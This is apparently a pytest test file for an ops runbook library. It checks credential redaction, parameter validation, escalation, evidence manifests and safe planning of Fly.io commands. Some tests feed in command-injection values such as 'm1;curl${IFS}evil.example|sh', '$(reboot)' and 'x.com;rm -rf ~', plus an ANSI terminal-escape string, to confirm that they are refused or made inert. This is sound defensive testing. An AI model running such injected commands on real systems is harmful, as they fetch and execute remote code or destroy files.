"""Pure pieces of the spine: redaction, parameter parsing and validation, manifests, status."""
from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opslib import catalog, evidence, runner
from opslib.errors import UsageError
from opslib.findings import Finding, worst
from opslib.thresholds import thresholds
from opslib.escalation import escalation
from opslib.redact import MASK, Redactor


# ----------------------------------------------------------------------------- redaction
@pytest.mark.parametrize("text, secret", [
    ("postgresql://postgres.ref:hunter2pass@aws-0.pooler.supabase.com:6543/postgres", "hunter2pass"),
    ("postgres://u:p%40ss%2Fw0rd@localhost/db", "p%40ss%2Fw0rd"),
    ("Authorization: Bearer abcdef0123456789xyz", "abcdef0123456789xyz"),
    ('{"authorization": "FlyV1 fm2_lJPECAAAAAAAAMpvxBBabc,fm2_lJPEtwo"}', "fm2_lJPECAAAAAAAAMpvxBBabc"),
    ("token fo1_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg here", "fo1_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg"),
    ("key sbp_0123456789abcdef0123456789abcdef01234567", "sbp_0123456789abcdef0123456789abcdef01234567"),
    ("sb_secret_N7UND0UgjKTVK-Uodkm0Hg_xSvEMPvz", "sb_secret_N7UND0UgjKTVK-Uodkm0Hg_xSvEMPvz"),
    ("jwt eyJhbGciOiJIUzI1NiJ9.eyJyb2xlIjoic2VydmljZV9yb2xlIn0.sig_nature-123", "eyJhbGciOiJIUzI1NiJ9"),
    ("apikey: someanonkeyvalue123", "someanonkeyvalue123"),
    ("host=db user=postgres password=s3cr3t-pw dbname=postgres", "s3cr3t-pw"),
])
def test_patterns_mask_credentials(text, secret):
    out = Redactor().text(text)
    assert secret not in out
    assert MASK in out


def test_env_secret_values_masked_in_every_embedding():
    import html
    from urllib.parse import quote

    value = 'we"ird/valu e&<x>'
    r = Redactor.from_env({"MY_API_TOKEN": value, "HARMLESS": "visible-value"})
    for embedded in (value, json.dumps({"v": value}), html.escape(value), quote(value, safe="")):
        out = r.text(f"before {embedded} after")
        assert "valu" not in out, out
        assert out.startswith("before ") and out.endswith(" after") and MASK in out
    assert r.text("visible-value") == "visible-value"


def test_dsn_password_from_env_is_masked_on_its_own():
    r = Redactor.from_env({"DATABASE_URL": "postgresql://app:Pl41nPassw0rd@db:5432/x"})
    assert "Pl41nPassw0rd" not in r.text("psql failed for password Pl41nPassw0rd")


def test_ordinary_text_is_left_alone():
    text = "GET /health 200 in 12ms; next_token=1716897605255000000; region iad"
    assert Redactor().text(text) == text


def test_obj_redacts_keys_and_nested_values():
    r = Redactor(["CanaryValue123"])
    assert r.obj({"a": ["x CanaryValue123", {"CanaryValue123": 1}]}) == {"a": [f"x {MASK}", {MASK: 1}]}


# ----------------------------------------------------------------------------- parameters
CELL = '''
# Parameters
app = ""  # Fly app name
probes = 5  # number of probes
ratio = 0.5  # a ratio
flag = False  # a flag
thresholds = {}  # overrides
names = ["a"]  # a list
'''


def test_parameters_cell_parsed_with_types_and_descriptions():
    params = {p.name: p for p in catalog.parse_parameters(CELL)}
    assert [(p.type, p.default, p.description) for p in params.values()] == [
        ("str", "", "Fly app name"), ("int", 5, "number of probes"), ("float", 0.5, "a ratio"),
        ("bool", False, "a flag"), ("dict", {}, "overrides"), ("list", ["a"], "a list")]


def _rb() -> catalog.Runbook:
    from pathlib import Path

    return catalog.Runbook("t", Path("t.ipynb"), "T", catalog.parse_parameters(CELL))


def test_validate_coerces_and_rejects():
    v = catalog.validate(_rb(), {"probes": "7", "ratio": "2", "flag": "yes",
                                 "thresholds": '{"memory_pct": [60, 85]}'})
    assert (v["probes"], v["ratio"], v["flag"], v["thresholds"]) == (7, 2.0, True, {"memory_pct": [60, 85]})
    for bad in ({"probes": "1.5"}, {"ratio": "nan"}, {"flag": "2"}, {"names": "{}"}, {"nope": "1"},
                {"1x": "1"}, {"a b": "1"}):
        with pytest.raises(UsageError):
            catalog.validate(_rb(), bad)


@settings(max_examples=200, derandomize=True)
@given(st.text(min_size=1, max_size=30), st.text(max_size=30))
def test_validate_never_lets_a_non_identifier_through(name, value):
    try:
        out = catalog.validate(_rb(), {name: value})
    except UsageError:
        return
    assert name in out and name.isidentifier()
    assert isinstance(out["app"], str)


def test_threshold_overrides():
    assert thresholds({"memory_pct": [60, 85]})["memory_pct"] == (60.0, 85.0)
    with pytest.raises(UsageError):
        thresholds({"disk_pct": [1, 2]})
    with pytest.raises(UsageError):
        thresholds({"memory_pct": [90, 70]})


# ----------------------------------------------------------------------------- severity, escalation
def test_worst_and_escalation_follow_the_seed():
    assert worst(["info", "ok"]) == "ok"
    assert worst(["ok", "unknown", "warning"]) == "warning"
    assert escalation([])["level"] == 0
    assert escalation([Finding("a", "warning", "w")])["level"] == 1
    assert escalation([Finding("a", "critical", "c", escalate=3, escalate_reason="breach")]) == {
        "level": 3, "team": "Security Team", "reason": "breach"}
    assert escalation([Finding("a", "warning", "w")], persisted_after_restart=True)["level"] == 2


@pytest.mark.parametrize("result, killed, findings, expected", [
    ({"outcome": "ok"}, False, {"complete": True}, "ok"),
    ({"outcome": "ok"}, False, {"complete": False}, "incomplete"),
    ({"outcome": "ok", "stopped_early": True}, False, {"complete": True}, "incomplete"),
    ({"outcome": "ok"}, False, None, "incomplete"),
    ({"outcome": "failed", "ename": "X"}, False, None, "failed"),
    ({"outcome": "timeout"}, False, None, "timeout"),
    ({"outcome": "kernel_died"}, False, None, "kernel_died"),
    ({}, True, None, "timeout"),
    ({}, False, None, "failed"),
])
def test_status_is_derived_from_what_happened(result, killed, findings, expected):
    status, _ = runner.derive_status(result, killed=killed, returncode=0, findings=findings)
    assert status == expected


def test_exit_codes():
    assert runner.outcome_exit_code("ok", "critical", "never") == 0
    assert runner.outcome_exit_code("ok", "warning", "critical") == 0
    assert runner.outcome_exit_code("ok", "critical", "warning") == 3
    # blind is not green: unknown reaches any fail_on but never, unless allowed explicitly
    assert runner.outcome_exit_code("ok", "unknown", "warning") == 3
    assert runner.outcome_exit_code("ok", "unknown", "critical") == 3
    assert runner.outcome_exit_code("ok", "unknown", "never") == 0
    assert runner.outcome_exit_code("ok", "unknown", "critical", allow_unknown=True) == 0
    assert runner.outcome_exit_code("ok", "critical", "critical", allow_unknown=True) == 3
    assert runner.outcome_exit_code("timeout", "ok", "never") == 1


# ----------------------------------------------------------------------------- manifest
def test_manifest_round_trip_and_nfc_paths(tmp_path):
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw" / "caf\u0065\u0301.json").write_text("{}")  # NFD name
    (tmp_path / "a.txt").write_text("a")
    m = evidence.write_manifest(tmp_path, {"status": "ok"})
    assert [e["path"] for e in m["files"]] == ["a.txt", "raw/caf\u00e9.json"]
    assert evidence.verify_run(tmp_path).ok


def test_newer_manifest_schema_is_reported_not_guessed(tmp_path):
    (tmp_path / "EVIDENCE_MANIFEST.json").write_text(json.dumps({"schema": 99, "files": []}))
    problems = evidence.verify_run(tmp_path).problems
    assert len(problems) == 1 and "newer" in problems[0].detail


def test_atomic_write_leaves_no_temp_files(tmp_path):
    evidence.atomic_write_json(tmp_path / "x.json", {"a": 1})
    evidence.atomic_write_json(tmp_path / "x.json", {"a": 2})
    assert [p.name for p in tmp_path.iterdir()] == ["x.json"]
    assert json.loads((tmp_path / "x.json").read_text()) == {"a": 2}


def _all_opslib_exceptions() -> list[type]:
    import importlib
    import pkgutil

    import opslib

    for info in pkgutil.walk_packages(opslib.__path__, "opslib."):
        if not info.name.endswith(("__main__", "_execute")):
            importlib.import_module(info.name)
    seen, todo = set(), [Exception]
    while todo:
        for sub in todo.pop().__subclasses__():
            if sub not in seen:
                seen.add(sub)
                todo.append(sub)
    return sorted((c for c in seen if c.__module__.startswith("opslib")), key=lambda c: c.__name__)


def test_every_opslib_exception_lives_in_errors_and_survives_pickle():
    import inspect
    import pickle

    from opslib import errors

    classes = _all_opslib_exceptions()
    assert len(classes) >= 10
    assert [c.__name__ for c in classes if c.__module__ != "opslib.errors"] == []
    for cls in classes:
        params = inspect.signature(cls.__init__).parameters
        if "source" in params:  # NotConfigured
            err = cls("Fly Machines API", "FLY_API_TOKEN", hint="create a token")
        elif "system" in params:
            err = cls("boom", system="fly-machines", target="https://x", status=503, hint="wait")
        else:
            err = cls("boom", hint="do this")
        back = pickle.loads(pickle.dumps(err))
        assert type(back) is cls and str(back) == str(err) and back.args == err.args
        assert vars(back) == vars(err), cls.__name__
    assert errors.SOURCE_ERRORS["PrometheusQueryError"] is errors.PrometheusQueryError


def _planned_kinds() -> set[str]:
    """Every action kind written literally in an ``Action(…)``, ``machine_action(…)`` or
    ``cert_action(…)`` call anywhere in opslib."""
    import ast
    from pathlib import Path

    import opslib

    kinds = set()
    for path in Path(opslib.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = getattr(node, "func", None) and getattr(node.func, "id", "")
            if isinstance(node, ast.Call) and name in ("Action", "machine_action", "cert_action"):
                first = node.args[1:2] if name == "Action" else node.args[:1]
                args = first + [k.value for k in node.keywords if k.arg == "kind"]
                kinds |= {a.value for a in args if isinstance(a, ast.Constant)}
    return kinds


def test_every_action_kind_a_runbook_can_plan_has_an_executor():
    from opslib.actions import KINDS, Action
    from opslib.executors import EXECUTORS

    planned = _planned_kinds()
    assert planned and planned <= set(KINDS), planned - set(KINDS)
    assert set(EXECUTORS) == set(KINDS)
    assert all(callable(fn) for fn in EXECUTORS.values())
    with pytest.raises(ValueError, match="not one of"):
        Action("x", "machine.destroy", "t", "c", {})


@pytest.mark.parametrize("hostile", ["m1;curl${IFS}evil.example|sh", "--config=/tmp/x",
                                     "148ed193b95089 -a other-app", "$(reboot)"])
def test_a_machine_id_not_in_flys_format_is_never_planned_and_its_command_is_inert(hostile):
    """An API answer can carry any string as a machine id: the printed command stays one word
    per value when pasted into a shell, and the action is refused, never applied."""
    import shlex

    from opslib.actions import ApplyContext, apply_plan, machine_action

    a = machine_action("machine.start", "my-app", hostile, title="t", basis={}, reason="r")
    assert shlex.split(a.command) == ["fly", "machine", "start", hostile, "-a", "my-app"]
    assert a.status == "refused" and "not in Fly's format" in a.result["reason"]

    class Live:
        kind, app = "live", "my-app"

    class Session:
        def event(self, **kw):
            raise AssertionError("a refused action must not be applied or recorded as applied")

    good = machine_action("machine.update", "my-app", "148ed193b95089", title="t", basis={},
                          reason="r", flags=("--image", "reg/img:v1"),
                          config_patch={"image": "reg/img:v1"})
    assert good.status == "planned"
    assert shlex.split(good.command) == ["fly", "machine", "update", "148ed193b95089", "--image",
                                         "reg/img:v1", "-a", "my-app", "--yes"]
    from opslib.actions import plan_digest
    record = apply_plan(ApplyContext(Session(), Live()), "health", [a], apply=True,
                        confirm=plan_digest("health", "my-app", [a]))
    assert a.status == "refused" and record["outcome"] != "failed"


def test_cert_commands_run_unattended_and_refuse_hostnames_not_in_dns_format():
    import shlex

    from opslib.actions import cert_action

    readd = cert_action("cert.readd", "my-app", "www.example.com", title="t", basis={}, reason="r")
    first, second = readd.command.split(" && ")
    # `fly certs remove` prompts without --yes: in a script `remove && add` would stop there
    assert shlex.split(first) == ["fly", "certs", "remove", "www.example.com", "-a", "my-app",
                                  "--yes"]
    assert shlex.split(second) == ["fly", "certs", "add", "www.example.com", "-a", "my-app"]
    assert readd.status == "planned"
    bad = cert_action("cert.check", "my-app", "x.com;rm -rf ~", title="t", basis={}, reason="r")
    assert bad.status == "refused" and shlex.split(bad.command)[3] == "x.com;rm -rf ~"


def test_the_terminal_summary_never_passes_control_characters_through():
    """A title from a remote answer with ANSI escapes or a carriage return must not recolour,
    retitle or hide lines in the engineer's terminal."""
    from pathlib import Path

    hostile = "ok\x1b]0;pwned\x07\x1b[2J\rCRITICAL fake line\nOK forged"
    outcome = runner.RunOutcome(Path("/tmp/x"), "ok", "warning", 0, {
        "runbook": "health", "target": "live", "app": "a", "incident": "i",
        "escalation": {"level": 1, "team": "On-Call Engineer", "reason": hostile},
        "findings": [{"severity": "warning", "title": hostile}],
        "actions": [{"status": "planned", "command": hostile}]})
    text = runner.summary_text(outcome)
    assert not any(c in text for c in "\x1b\x07\r")
    assert "\\x1b]0;pwned" in text
    assert not any(line.startswith("OK forged") for line in text.splitlines())


def test_the_second_macaroon_of_a_url_encoded_token_list_is_redacted():
    r = Redactor()
    text = r.text("GET /logs?token=fm2_FirstMacaroonAbcdef%2Cfm2_SecondMacaroon123456 HTTP/1.1")
    assert "FirstMacaroon" not in text and "SecondMacaroon" not in text


def test_a_non_ascii_secret_read_with_the_wrong_charset_is_still_redacted():
    """Its UTF-8 bytes shown as Latin-1 or Windows-1252 text (a server that labels UTF-8 as
    ISO-8859-1) are the same secret."""
    secret = "Pässwörd-Ünïcødé-4711"
    r = Redactor.from_env({"DATABASE_URL": "postgresql://u:P%C3%A4ssw%C3%B6rd-%C3%9Cn%C3%AFc"
                                           "%C3%B8d%C3%A9-4711@db:5432/d"})
    for shown in (secret, secret.encode().decode("latin-1"),
                  secret.encode().decode("cp1252", errors="replace")):
        assert r.text(f"login failed: {shown}!") == f"login failed: {MASK}!", shown
